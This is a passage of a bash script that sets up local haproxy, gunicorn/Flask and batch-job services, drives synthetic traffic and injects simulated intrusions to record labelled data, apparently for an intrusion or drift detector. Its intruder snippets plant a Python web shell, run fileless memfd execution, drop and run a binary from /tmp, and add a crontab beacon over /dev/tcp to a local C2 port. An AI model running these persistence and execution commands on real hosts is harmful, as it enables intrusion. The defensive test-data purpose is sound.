    mkdir -p "$HAPROXY_DIR/www$b/api" "$HAPROXY_DIR/www$b/static"
    echo ok >"$HAPROXY_DIR/www$b/health.html"
    echo "<html>home $b</html>" >"$HAPROXY_DIR/www$b/index.html"
    for i in $(seq 1 60); do echo "<html>page $i from $b</html>" >"$HAPROXY_DIR/www$b/page$i.html"; done
    for i in $(seq 1 30); do head -c 1024 /dev/urandom >"$HAPROXY_DIR/www$b/static/$i.bin"; done
    echo '{"status":"ok"}' >"$HAPROXY_DIR/www$b/api/status"
    echo '{"items":[]}' >"$HAPROXY_DIR/www$b/api/items"
    echo '{"orders":[]}' >"$HAPROXY_DIR/www$b/api/orders"
  done
  chown haproxy:haproxy "$HAPROXY_RUN"
  cat >"$HAPROXY_DIR/conf/haproxy.cfg" <<CONF
global
  user haproxy
  group haproxy
  chroot $HAPROXY_DIR/empty
  pidfile $HAPROXY_RUN/haproxy.pid
  stats socket $HAPROXY_RUN/admin.sock mode 660 level admin
  log stdout format raw local0
  maxconn 512

defaults
  mode http
  log global
  option httplog
  option dontlognull
  timeout connect 2s
  timeout client 10s
  timeout server 10s

frontend web
  bind 127.0.0.1:$HAPROXY_PORT
  acl is_api path_beg /api/
  use_backend api if is_api
  default_backend site

backend site
  balance roundrobin
  option httpchk GET /health.html
  server s1 127.0.0.1:${BACKEND_PORTS[0]} check inter 2s
  server s2 127.0.0.1:${BACKEND_PORTS[1]} check inter 2s

backend api
  option httpchk GET /health.html
  server a1 127.0.0.1:${BACKEND_PORTS[2]} check inter 2s

listen stats
  bind 127.0.0.1:$HAPROXY_STATS_PORT
  stats enable
  stats uri /stats
CONF
  for b in 0 1 2; do haproxy_backend_start "$b"; done
}

BACKEND_PIDS=("" "" "")
haproxy_backend_start() {
  (cd "$HAPROXY_DIR/www$1" && exec /usr/bin/python3 -m http.server --bind 127.0.0.1 "${BACKEND_PORTS[$1]}") \
    >/dev/null 2>&1 &
  BACKEND_PIDS[$1]=$!
  PIDS+=($!)
  until_ok curl -sf "http://127.0.0.1:${BACKEND_PORTS[$1]}/health.html"
}
haproxy_backend_stop() { stop_pid "${BACKEND_PIDS[$1]}" TERM; BACKEND_PIDS[$1]=""; }

HAPROXY_PID=
haproxy_start() {
  launch haproxy root /usr/sbin/haproxy -W -db -f "$HAPROXY_DIR/conf/haproxy.cfg"
  HAPROXY_PID=$LAUNCHED
  until_ok curl -sf "http://127.0.0.1:$HAPROXY_PORT/health.html"
}
haproxy_stop() { stop_pid "$HAPROXY_PID" USR1; }

# haproxy_get CONCURRENCY PATH...: like nginx_get, through the frontend.
haproxy_get() {
  local c=$1
  shift
  printf "http://127.0.0.1:$HAPROXY_PORT%s\n" "$@" | xargs -P "$c" -n 10 curl -s --max-time 5 >/dev/null
}
# Mix A: home, pages 1-20, static 1-10, the API status, scanners; 3 clients.
haproxy_mix_a() {
  local paths=(/ /index.html /api/status /wp-login.php)
  for i in $(seq 1 20); do paths+=("/page$i.html"); done
  for i in $(seq 1 10); do paths+=("/static/$i.bin"); done
  haproxy_get 3 "${paths[@]}" "${paths[@]}"
}
# Mix B: pages 10-40, static 1-20, other API calls, HEAD requests; 1 client, then 8.
haproxy_mix_b() {
  local paths=(/ /api/status /api/items /admin.php /.git/config)
  for i in $(seq 10 40); do paths+=("/page$i.html"); done
  for i in $(seq 1 20); do paths+=("/static/$i.bin"); done
  haproxy_get 1 "${paths[@]}"
  haproxy_get 8 "${paths[@]}" "${paths[@]}"
  curl -s -I "http://127.0.0.1:$HAPROXY_PORT/page7.html" >/dev/null
}
# Scheduled job: the monitoring scrape of the stats page and the admin socket.
haproxy_maintenance() {
  curl -s "http://127.0.0.1:$HAPROXY_STATS_PORT/stats;csv" >/dev/null
  echo "show info" | socat stdio "unix-connect:$HAPROXY_RUN/admin.sock" >/dev/null
}

# Held out. Clients from 127.0.0.2-20, pages 20-60 and static 1-30 (most never requested),
# other API paths, 12 at a time; a backend taken out of rotation through the admin socket and
# put back, and a backend that dies and comes back (health checks fail, then pass); a reload
# (USR2 to the master, as `systemctl reload haproxy` does); the monitoring job with other
# arguments (stats in HTML, show stat / show servers state).
haproxy_heldout_deploy() { :; }
haproxy_heldout_mix() {
  local paths=(/ /index.html /api/status /api/items /api/orders /robots.txt /xmlrpc.php)
  for i in $(seq 20 60); do paths+=("/page$i.html"); done
  for i in $(seq 1 30); do paths+=("/static/$i.bin"); done
  local n=0 p
  for p in "${paths[@]}" "${paths[@]}"; do
    echo "$((2 + n % 19)) http://127.0.0.1:$HAPROXY_PORT$p"
    n=$((n + 1))
  done | xargs -P 12 -n 2 sh -c 'curl -s --max-time 5 --interface "127.0.0.$0" "$1" >/dev/null'
}
HAPROXY_HELDOUT_ROUND=0
haproxy_heldout_job() {
  HAPROXY_HELDOUT_ROUND=$((HAPROXY_HELDOUT_ROUND + 1))
  curl -s "http://127.0.0.1:$HAPROXY_STATS_PORT/stats" >/dev/null
  echo "show stat" | socat stdio "unix-connect:$HAPROXY_RUN/admin.sock" >/dev/null
  echo "show servers state" | socat stdio "unix-connect:$HAPROXY_RUN/admin.sock" >/dev/null
  if [ "$HAPROXY_HELDOUT_ROUND" = 1 ]; then
    echo "disable server site/s2" | socat stdio "unix-connect:$HAPROXY_RUN/admin.sock" >/dev/null
    haproxy_heldout_mix
    echo "enable server site/s2" | socat stdio "unix-connect:$HAPROXY_RUN/admin.sock" >/dev/null
  else
    haproxy_backend_stop 1
    sleep 5
    haproxy_heldout_mix
    haproxy_backend_start 1
  fi
}
haproxy_heldout_reload() { kill -USR2 "$HAPROXY_PID"; sleep 2; }

# The intruder's script as the haproxy worker (its uid and gid, which haproxy set itself) in
# its run directory, then a download-and-execute: a binary written into /tmp and run from
# there.
haproxy_more() {
  cat <<SH
cat /usr/bin/uname >$DROPPER && chmod 755 $DROPPER && $DROPPER -a >/dev/null
SH
}
haproxy_inject() {
  inject_shell haproxy "$(id -u haproxy):$(id -g haproxy)" "$HAPROXY_RUN" "$(haproxy_more)"
}
haproxy_labels() {
  write_labels haproxy "$HAPROXY_RUN" ",
  {\"kind\": \"file\", \"subject\": \"$DROPPER\", \"what\": \"the intruder writes a binary into /tmp\"},
  {\"kind\": \"exec\", \"subject\": \"$DROPPER\", \"what\": \"and runs it from there (drop and execute)\"},
  {\"kind\": \"exec\", \"subject\": \"*/cat\", \"required\": false, \"what\": \"the dropper is written with cat\"},
  {\"kind\": \"exec\", \"subject\": \"*/chmod\", \"required\": false, \"what\": \"and made executable with chmod\"},
  {\"kind\": \"file\", \"subject\": \"/usr/bin/uname\", \"required\": false, \"what\": \"the binary cat copies into the dropper\"}"
}


# --- gunicorn -----------------------------------------------------------------------------

GUNI_DIR=$WORK/gunicorn
GUNI_APP=$GUNI_DIR/app
GUNI_DATA=$GUNI_DIR/data
GUNI_UPLOADS=$GUNI_APP/static/uploads

# A small Flask application (Debian python3-flask) under gunicorn (Debian gunicorn), two sync
# workers, run as www-data from a root-owned code directory; it reads item records from
# data/items, serves static files (uploads land in static/uploads, served back), writes
# exports into data/exports and logs to log/. manage.py is its scheduled job.
gunicorn_provision() {
  rm -rf "$GUNI_DIR"
  mkdir -p "$GUNI_APP"/static/{css,js,img} "$GUNI_UPLOADS" "$GUNI_DATA"/{items,exports,reports} \
    "$GUNI_DIR"/{log,run}
  local i
  for i in $(seq 1 200); do printf '{"id": %d, "name": "item %d", "price": %d}\n' "$i" "$i" "$((i * 3))" \
    >"$GUNI_DATA/items/$i.json"; done
  for i in $(seq 1 30); do head -c 1024 /dev/urandom >"$GUNI_APP/static/img/$i.png"; done
  echo "body { margin: 0 }" >"$GUNI_APP/static/css/site.css"
  echo "console.log('shop')" >"$GUNI_APP/static/js/shop.js"
  cat >"$GUNI_APP/app.py" <<PY
import json, os, time
from flask import Flask, abort, jsonify, request, send_from_directory

DATA = "$GUNI_DATA"
UPLOADS = "$GUNI_UPLOADS"
app = Flask(__name__)


@app.route("/")
def home():
    return "<html><body>shop</body></html>"


@app.route("/api/health")
def health():
    return jsonify(ok=True)


@app.route("/items/<int:item>")
def item(item):
    try:
        with open(os.path.join(DATA, "items", "%d.json" % item)) as f:
            return jsonify(json.load(f))
    except FileNotFoundError:
        abort(404)


@app.route("/upload/<name>", methods=["POST"])
def upload(name):
    if not name.replace("-", "").replace(".", "").isalnum():
        abort(400)
    with open(os.path.join(UPLOADS, name), "wb") as f:
        f.write(request.get_data())
    return jsonify(saved=name)


@app.route("/export")
def export():
    fmt = request.args.get("fmt", "csv")
    if fmt not in ("csv", "json"):
        abort(400)
    path = os.path.join(DATA, "exports", "export-%d.%s" % (int(time.time()) % 1000, fmt))
    with open(path, "w") as f:
        f.write("id,name\n" if fmt == "csv" else "[]\n")
    return send_from_directory(os.path.join(DATA, "exports"), os.path.basename(path))
PY
  cat >"$GUNI_APP/manage.py" <<PY
"""The application's scheduled job: cleanup of old uploads and exports, and a report."""
import argparse, glob, json, os, time

DATA = "$GUNI_DATA"
UPLOADS = "$GUNI_UPLOADS"

parser = argparse.ArgumentParser()
sub = parser.add_subparsers(dest="cmd", required=True)
c = sub.add_parser("cleanup")
c.add_argument("--older-than", type=int, default=60)
r = sub.add_parser("report")
r.add_argument("--fmt", choices=["csv", "json"], default="csv")
r.add_argument("--items", type=int, default=50)
args = parser.parse_args()

if args.cmd == "cleanup":
    cutoff = time.time() - args.older_than
    for path in glob.glob(os.path.join(UPLOADS, "*")) + glob.glob(os.path.join(DATA, "exports", "*")):
        if os.path.getmtime(path) < cutoff:
            os.unlink(path)
else:
    rows = []
    for i in range(1, args.items + 1):
        with open(os.path.join(DATA, "items", "%d.json" % i)) as f:
            rows.append(json.load(f))
    out = os.path.join(DATA, "reports", time.strftime("report-%Y%m%d-%H%M%S.") + args.fmt)
    with open(out, "w") as f:
        if args.fmt == "json":
            json.dump(rows, f)
        else:
            f.writelines("%(id)s,%(name)s,%(price)s\\n" % row for row in rows)
PY
  chown -R www-data:www-data "$GUNI_UPLOADS" "$GUNI_DATA"/{exports,reports} "$GUNI_DIR"/{log,run}
}

GUNI_PID=
gunicorn_start() {
  launch gunicorn www-data /usr/bin/gunicorn --chdir "$GUNI_APP" --bind "127.0.0.1:$GUNICORN_PORT" \
    --workers 2 --pid "$GUNI_DIR/run/gunicorn.pid" --access-logfile "$GUNI_DIR/log/access.log" \
    --error-logfile "$GUNI_DIR/log/error.log" app:app
  GUNI_PID=$LAUNCHED
  until_ok curl -sf "http://127.0.0.1:$GUNICORN_PORT/api/health"
}
gunicorn_stop() { stop_pid "$GUNI_PID" TERM; }

gunicorn_get() {
  local c=$1
  shift
  printf "http://127.0.0.1:$GUNICORN_PORT%s\n" "$@" | xargs -P "$c" -n 10 curl -s --max-time 5 >/dev/null
}
GUNI_UPLOAD_SEQ=0
# gunicorn_upload N [CURL_ARGS...]: N uploads of photo-SEQ.jpg.
gunicorn_upload() {
  local n=$1 i
  shift
  for i in $(seq 1 "$n"); do
    GUNI_UPLOAD_SEQ=$((GUNI_UPLOAD_SEQ + 1))
    head -c 2048 /dev/urandom | curl -s --max-time 5 "$@" --data-binary @- \
      "http://127.0.0.1:$GUNICORN_PORT/upload/photo-$GUNI_UPLOAD_SEQ.jpg" >/dev/null
  done
}
# Mix A: home, items 1-40, css, js, images 1-10, health, a CSV export, two uploads, a scanner
# path; 3 clients.
gunicorn_mix_a() {
  local paths=(/ /api/health /static/css/site.css /static/js/shop.js /export?fmt=csv /wp-login.php)
  for i in $(seq 1 40); do paths+=("/items/$i"); done
  for i in $(seq 1 10); do paths+=("/static/img/$i.png"); done
  gunicorn_get 3 "${paths[@]}"
  gunicorn_upload 2
  curl -s "http://127.0.0.1:$GUNICORN_PORT/static/uploads/photo-$GUNI_UPLOAD_SEQ.jpg" >/dev/null
}
# Mix B: items 20-80 (and some that do not exist), images 1-20, exports, more uploads, HEAD;
# 1 client, then 8.
gunicorn_mix_b() {
  local paths=(/ /api/health /static/js/shop.js /export?fmt=csv /admin.php /items/9999)
  for i in $(seq 20 80); do paths+=("/items/$i"); done
  for i in $(seq 1 20); do paths+=("/static/img/$i.png"); done
  gunicorn_get 1 "${paths[@]}"
  gunicorn_get 8 "${paths[@]}" "${paths[@]}"
  gunicorn_upload 4
  curl -s -I "http://127.0.0.1:$GUNICORN_PORT/" >/dev/null
}
# gunicorn_job ARGS...: manage.py run as www-data in the cgroup, as its cron entry would.
gunicorn_job() {
  launch gunicorn www-data /usr/bin/python3 "$GUNI_APP/manage.py" "$@"
  wait "$LAUNCHED" || die "manage.py $* failed"
  forget "$LAUNCHED"
}
gunicorn_maintenance() { gunicorn_job cleanup --older-than 60; gunicorn_job report; }

# Held out. Clients from 127.0.0.2-20, items 40-200 (most never requested), images 10-30,
# JSON exports, more uploads from other clients, 12 at a time; the logs rotated (rename and
# USR1, as logrotate does for gunicorn); a graceful reload (HUP: new workers) and one more
# worker (TTIN); the job with other arguments (a JSON report over all items, cleanup of
# everything).
gunicorn_heldout_deploy() { :; }
gunicorn_heldout_mix() {
  local paths=(/ /api/health /static/css/site.css /static/js/shop.js /export?fmt=json /export?fmt=csv
               /items/0 /robots.txt)
  for i in $(seq 40 200); do paths+=("/items/$i"); done
  for i in $(seq 10 30); do paths+=("/static/img/$i.png"); done
  local n=0 p
  for p in "${paths[@]}"; do
    echo "$((2 + n % 19)) http://127.0.0.1:$GUNICORN_PORT$p"
    n=$((n + 1))
  done | xargs -P 12 -n 2 sh -c 'curl -s --max-time 5 --interface "127.0.0.$0" "$1" >/dev/null'
  gunicorn_upload 3 --interface 127.0.0.7
  gunicorn_upload 3 --interface 127.0.0.12
}
gunicorn_heldout_job() {
  local f
  for f in access error; do
    [ -e "$GUNI_DIR/log/$f.log.1" ] && mv "$GUNI_DIR/log/$f.log.1" "$GUNI_DIR/log/$f.log.2"
    mv "$GUNI_DIR/log/$f.log" "$GUNI_DIR/log/$f.log.1"
  done
  kill -USR1 "$GUNI_PID"
  gunicorn_job report --fmt json --items 200
  gunicorn_job cleanup --older-than 0
}
gunicorn_heldout_reload() { kill -HUP "$GUNI_PID"; sleep 2; kill -TTIN "$GUNI_PID"; sleep 1; }

# The intruder's script as www-data in the served upload directory, then: a web shell
# written next to the uploads and run by python3, fileless execution (memfd_create and
# execve of the memfd: fexecve), and a crontab for www-data (crontab -).
gunicorn_more() {
  cat <<SH
printf 'import os\nos.system("id")\n' >$GUNI_UPLOADS/cmd.py
/usr/bin/python3 $GUNI_UPLOADS/cmd.py >/dev/null
/usr/bin/python3 -c 'import os; fd = os.memfd_create("x"); os.write(fd, open("/usr/bin/id", "rb").read()); os.execve(fd, ["x"], {})' >/dev/null
echo '*/5 * * * * /bin/sh -c "exec 3<>/dev/tcp/127.0.0.1/$C2_PORT"' | crontab -
SH
}
gunicorn_inject() { inject_shell gunicorn www-data "$GUNI_UPLOADS" "$(gunicorn_more)"; }
gunicorn_labels() {
  write_labels gunicorn "$GUNI_UPLOADS" ",
  {\"kind\": \"file\", \"subject\": \"$GUNI_UPLOADS/cmd.py\", \"what\": \"a python web shell written into the served directory\"},
  {\"kind\": \"exec\", \"subject\": \"*memfd*\", \"what\": \"fileless execution: id copied into a memfd and executed from it (fexecve)\"},
  {\"kind\": \"exec\", \"subject\": \"*/python3*\", \"what\": \"the intruder's shell starts python3 (the web shell, the fileless exec)\"},
  {\"kind\": \"file\", \"subject\": \"/usr/bin/id\", \"required\": false, \"what\": \"python3 reads id to copy it into the memfd\"},
  {\"kind\": \"exec\", \"subject\": \"*/crontab\", \"what\": \"crontab run by the service user\"},
  {\"kind\": \"file\", \"subject\": \"/var/spool/cron/crontabs/*\", \"what\": \"a crontab written for www-data (persistence)\"},
  {\"kind\": \"file\", \"subject\": \"/usr/lib/python3*\", \"required\": false, \"what\": \"modules python3 loads for the web shell and the fileless exec\"},
  {\"kind\": \"file\", \"subject\": \"/etc/cron.allow\", \"required\": false, \"what\": \"crontab checks who may use it\"},
  {\"kind\": \"file\", \"subject\": \"/etc/cron.deny\", \"required\": false, \"what\": \"crontab checks who may use it\"}"
}


# --- batch --------------------------------------------------------------------------------

BATCH_DIR=$WORK/batch
BATCH_SPOOL=$BATCH_DIR/spool

# A cron-driven batch job: bin/process.sh (root-owned) runs as backup in the cgroup
# dw-eval/batch every round (a loop standing in for cron starts it, outside the cgroup). It
# processes the CSV files an upstream system dropped into spool/incoming (sort, awk totals
# into out/<day>/), archives the inputs (tar.gz in spool/archive), and rotates its own log
# (job.log -> job.log.1 -> job.log.2.gz ..., keeping --keep N generations, 3 by default).
# bin/cleanup.sh prunes old archives and outputs.
batch_provision() {
  rm -rf "$BATCH_DIR"
  mkdir -p "$BATCH_DIR/bin" "$BATCH_SPOOL"/{incoming,archive,work} "$BATCH_DIR"/{out,log}
  cat >"$BATCH_DIR/bin/process.sh" <<'SH'
#!/bin/sh
# process.sh [--day YYYYMMDD] [--keep N]: totals per customer of every CSV in spool/incoming.
set -eu
base=$(dirname "$0")/..
day=$(date +%Y%m%d)
keep=3
while [ $# -gt 0 ]; do
  case $1 in
    --day) day=$2; shift 2 ;;
    --keep) keep=$2; shift 2 ;;
    *) echo "process.sh: unknown argument $1" >&2; exit 2 ;;
  esac
done
log=$base/log/job.log
echo "$(date -u +%FT%TZ) start day=$day" >>"$log"
mkdir -p "$base/out/$day"
n=0
for f in "$base"/spool/incoming/*.csv; do
  [ -e "$f" ] || continue
  name=$(basename "$f" .csv)
  sort -t, -k1,1 "$f" | awk -F, '{ t[$1] += $2 } END { for (c in t) print c "," t[c] }' \
    >"$base/spool/work/$name.tmp"
  mv "$base/spool/work/$name.tmp" "$base/out/$day/$name.totals"
  echo "$(date -u +%FT%TZ) $name rows=$(wc -l <"$f")" >>"$log"
  mv "$f" "$base/spool/work/"
  n=$((n + 1))
done
if [ "$n" -gt 0 ]; then
  tar -czf "$base/spool/archive/inputs-$(date +%H%M%S).tar.gz" -C "$base/spool/work" .
  find "$base/spool/work" -name '*.csv' -delete
fi
echo "$(date -u +%FT%TZ) done files=$n" >>"$log"
# Rotation: job.log.N.gz shifts up, job.log.1 is compressed, job.log becomes job.log.1.
if [ "$(wc -c <"$log")" -gt 1000 ]; then
  i=$keep
  rm -f "$log.$i.gz"
  while [ "$i" -gt 2 ]; do
    [ -e "$log.$((i - 1)).gz" ] && mv "$log.$((i - 1)).gz" "$log.$i.gz"
    i=$((i - 1))
  done
  [ -e "$log.1" ] && gzip -c "$log.1" >"$log.2.gz" && rm "$log.1"
  mv "$log" "$log.1"
fi
SH
  cat >"$BATCH_DIR/bin/cleanup.sh" <<'SH'
#!/bin/sh
# cleanup.sh [--max-archives N]: keeps the newest N input archives (default 5).
set -eu
base=$(dirname "$0")/..
max=5
[ "${1:-}" = --max-archives ] && max=$2
ls -1t "$base"/spool/archive/*.tar.gz 2>/dev/null | tail -n +"$((max + 1))" | while read -r f; do rm -f "$f"; done
find "$base/out" -name '*.totals' -mmin +60 -delete
du -s "$base/spool" "$base/out" >/dev/null
SH
  chmod 755 "$BATCH_DIR/bin"/*.sh
  # A job that has run before: its log has been rotated (kept: job.log.1, .2.gz, .3.gz).
  local g
  for g in 1 2 3; do
    printf '%s start day=%s\n' "2026-01-0${g}T02:00:00Z" "2026010$g" >"$BATCH_DIR/log/job.log.$g"
    [ "$g" = 1 ] || gzip "$BATCH_DIR/log/job.log.$g"
  done
  chown -R backup:backup "$BATCH_SPOOL" "$BATCH_DIR"/{out,log}
}

# The scheduler: batch_start and batch_stop stand for the cron daemon being (re)started; the
# job itself starts each round.
batch_start() { :; }
batch_stop() { :; }

BATCH_PERIOD=${BATCH_PERIOD:-15}   # seconds between runs of the job (with the rounds' own 2 s)
BATCH_SEQ=0
# batch_feed FEED COUNT ROWS: the upstream system drops COUNT files FEED-SEQ.csv of ROWS rows.
batch_feed() {
  local i
  for i in $(seq 1 "$2"); do
    BATCH_SEQ=$((BATCH_SEQ + 1))
    awk -v n="$3" -v s="$BATCH_SEQ" 'BEGIN { srand(s); for (i = 0; i < n; i++) printf "c%03d,%d\n", int(rand() * 200), int(rand() * 1000) }' \
      >"$BATCH_SPOOL/incoming/.$1-$BATCH_SEQ.part"
    chown backup:backup "$BATCH_SPOOL/incoming/.$1-$BATCH_SEQ.part"
    mv "$BATCH_SPOOL/incoming/.$1-$BATCH_SEQ.part" "$BATCH_SPOOL/incoming/$1-$BATCH_SEQ.csv"
  done
}
# batch_job SCRIPT ARGS...: one run of a job as backup in the cgroup, as cron starts it.
batch_job() {
  launch batch backup /bin/sh "$BATCH_DIR/bin/$1" "${@:2}"
  wait "$LAUNCHED" || die "batch job $* failed"
  forget "$LAUNCHED"
}
# Mix A: three order files of 200 rows, then the job; the next run BATCH_PERIOD s later.
batch_mix_a() { batch_feed orders 3 200; batch_job process.sh; sleep "$BATCH_PERIOD"; }
# Mix B: orders and returns, up to eight files of 500 rows, the job; and a run with nothing
# to do.
batch_mix_b() {
  batch_feed orders 4 500
  batch_feed returns 4 500
  batch_job process.sh
  batch_job process.sh
  sleep "$BATCH_PERIOD"
}
# Scheduled job: the weekly clean-up, here every MAINT_SECONDS.
batch_maintenance() { batch_job cleanup.sh; }

# Held out. Feeds never seen (refunds, invoices) and bigger files; a backfill of another day
# (--day: a new out/<day> directory); more log generations kept (--keep 6, so job.log.4.gz
# and later appear as the bigger runs rotate the log); the clean-up with another argument.
batch_heldout_deploy() { :; }
BATCH_HELDOUT_ROUND=0
batch_heldout_mix() {
  BATCH_HELDOUT_ROUND=$((BATCH_HELDOUT_ROUND + 1))
  batch_feed orders 2 300
  batch_feed refunds 2 100
  [ $((BATCH_HELDOUT_ROUND % 3)) = 0 ] && batch_feed invoices 5 2000
  batch_job process.sh --keep 6
  if [ $((BATCH_HELDOUT_ROUND % 4)) = 0 ]; then
    batch_feed orders 3 300
    batch_job process.sh --day "$(date -d "-$((BATCH_HELDOUT_ROUND / 4)) day" +%Y%m%d)" --keep 6
  fi
  sleep "$BATCH_PERIOD"
}
batch_heldout_job() { batch_job cleanup.sh --max-archives 2; }

# The intruder's script as backup in the spool, then: a crontab for backup (crontab -), and
# a download-and-execute from /tmp.
batch_more() {
  cat <<SH
echo '*/5 * * * * /bin/sh -c "exec 3<>/dev/tcp/127.0.0.1/$C2_PORT"' | crontab -
cat /usr/bin/uname >$DROPPER && chmod 755 $DROPPER && $DROPPER -a >/dev/null
SH
}
batch_inject() { inject_shell batch backup "$BATCH_SPOOL" "$(batch_more)"; }
batch_labels() {
  write_labels batch "$BATCH_SPOOL" ",
  {\"kind\": \"exec\", \"subject\": \"*/crontab\", \"what\": \"crontab run by the service user\"},
  {\"kind\": \"file\", \"subject\": \"/var/spool/cron/crontabs/*\", \"what\": \"a crontab written for backup (persistence)\"},
  {\"kind\": \"file\", \"subject\": \"$DROPPER\", \"what\": \"the intruder writes a binary into /tmp\"},
  {\"kind\": \"exec\", \"subject\": \"$DROPPER\", \"what\": \"and runs it from there (drop and execute)\"},
  {\"kind\": \"exec\", \"subject\": \"*/cat\", \"required\": false, \"what\": \"the dropper is written with cat\"},
  {\"kind\": \"exec\", \"subject\": \"*/chmod\", \"required\": false, \"what\": \"and made executable with chmod\"},
  {\"kind\": \"file\", \"subject\": \"/usr/bin/uname\", \"required\": false, \"what\": \"the binary cat copies into the dropper\"},
  {\"kind\": \"file\", \"subject\": \"/etc/cron.allow\", \"required\": false, \"what\": \"crontab checks who may use it\"},
  {\"kind\": \"file\", \"subject\": \"/etc/cron.deny\", \"required\": false, \"what\": \"crontab checks who may use it\"}" shell-known
}


# --- the recordings -----------------------------------------------------------------------

# traffic SECONDS MIX [MAINTENANCE [EVERY]]: runs the server's traffic mix MIX in rounds for
# SECONDS, and MAINTENANCE (a scheduled job of the server) every EVERY seconds (default
# MAINT_SECONDS).
traffic() {
  local every=${4:-$MAINT_SECONDS}
  local end=$((SECONDS + $1)) next=$((SECONDS + every))
  while [ "$SECONDS" -lt "$end" ]; do
    "$2"
    if [ -n "${3:-}" ] && [ "$SECONDS" -ge "$next" ]; then "$3"; next=$((SECONDS + every)); fi
    sleep 2
  done
}

# The server's scheduled job, if it has one: training covers what production runs on a
# timer, or every run of the job in production would look new.
maintenance_of() { if declare -F "$1_maintenance" >/dev/null; then echo "$1_maintenance"; fi; }

record_server() {
  local s=$1
  mkdir -p "$CG_MOUNT/$CG_BASE/$s"
  if want_phase train || want_phase normal || want_phase drift; then
    say "$s: provisioning $WORK/$s"
    "${s}_provision"
  fi

  if want_phase train; then
    say "$s: train, ${TRAIN_SECONDS}s (start, mix A, restart, mix A, stop)"
    rec_start "$s" train
    "${s}_start"
    traffic $((TRAIN_SECONDS / 2)) "${s}_mix_a" "$(maintenance_of "$s")"
    "${s}_stop"
    "${s}_start"
    traffic $((TRAIN_SECONDS / 2)) "${s}_mix_a" "$(maintenance_of "$s")"
    "${s}_stop"
    rec_stop
  fi

  if want_phase normal; then
    say "$s: normal, ${NORMAL_SECONDS}s (mix B, restart, mix B)"
    "${s}_start"
    rec_start "$s" normal
    traffic $((NORMAL_SECONDS / 2)) "${s}_mix_b"
    "${s}_stop"
    "${s}_start"
    traffic $((NORMAL_SECONDS / 2)) "${s}_mix_b"
    rec_stop
    "${s}_stop"
  fi

  if want_phase drift; then
    say "$s: drift, ${DRIFT_SECONDS}s (mix A, intrusion, mix A)"
    start_peer "$C2_PORT"
    "${s}_start"
    rec_start "$s" drift
    traffic 15 "${s}_mix_a"
    "${s}_inject"
    traffic $((DRIFT_SECONDS - 15)) "${s}_mix_a"
    rec_stop
    "${s}_stop"
    "${s}_labels"
  fi

  if want_phase heldout; then
    say "$s: heldout, ${HELDOUT_SECONDS}s (redeploy, held-out variation, restart, more of it)"
    "${s}_provision"
    "${s}_start"
    rec_start "$s" heldout
    "${s}_heldout_deploy"
    traffic $((HELDOUT_SECONDS / 2)) "${s}_heldout_mix" "${s}_heldout_job" "$HELDOUT_MAINT_SECONDS"
    "${s}_stop"
    "${s}_start"
    if declare -F "${s}_heldout_reload" >/dev/null; then "${s}_heldout_reload"; fi
    traffic $((HELDOUT_SECONDS / 2)) "${s}_heldout_mix" "${s}_heldout_job" "$HELDOUT_MAINT_SECONDS"
    rec_stop
    "${s}_stop"
  fi
}

# --- main ---------------------------------------------------------------------------------

say "installing the servers and load generators"
install_packages
[ -x "$DW" ] && [ -x "$WORKLOAD_BIN" ] || BUILD_DIR=$BUILD_DIR bash tools/scripts/build.sh >/dev/null
for port in $NGINX_PORT $REDIS_PORT $PG_PORT $C2_PORT $BIND_PORT $ROGUE_PORT $HAPROXY_PORT \
    $HAPROXY_STATS_PORT "${BACKEND_PORTS[@]}" $GUNICORN_PORT $((PG_RELAY_PORT + 5)) \
    $((PG_RELAY_PORT + 9)) $((PG_RELAY_PORT + 17)); do
  if ss -Hltn "sport = :$port" | grep -q .; then die "port $port is in use"; fi
done
rm -rf "$WORK"
mkdir -p "$WORK"
chmod 755 "$WORK"
for s in "${SERVERS[@]}"; do
  record_server "$s"
  for p in "${PIDS[@]:-}"; do [ -n "$p" ] && kill "$p" 2>/dev/null || true; done
  for p in "${PIDS[@]:-}"; do [ -n "$p" ] && wait "$p" 2>/dev/null || true; done
  PIDS=()
  BACKEND_PIDS=("" "" "")
  remove_intruder_leftovers
  ls -l "testdata/$s" >&2
done
